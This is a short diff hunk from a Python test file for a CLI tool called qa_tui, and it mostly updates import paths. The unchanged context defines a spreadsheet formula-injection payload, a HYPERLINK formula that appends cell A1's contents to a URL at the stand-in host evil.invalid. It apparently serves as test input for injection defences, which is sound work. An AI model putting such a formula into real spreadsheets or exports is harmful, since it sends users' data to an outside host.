@@ -12,10 +12,10 @@ import pytest
 from click.testing import CliRunner
 from conftest import MINI_RUBRICS
 
-from qa_tui.cli import cli
-from qa_tui.records import Case
-from qa_tui.services import AuditDesk
-from qa_tui.store import Store
+from qa_tui.cli.main import cli
+from qa_tui.desks.audits import AuditDesk
+from qa_tui.domain.records import Case
+from qa_tui.store.database import Store
 
 FORMULA = '=HYPERLINK("http://evil.invalid/?d="&A1,"Click")'
 
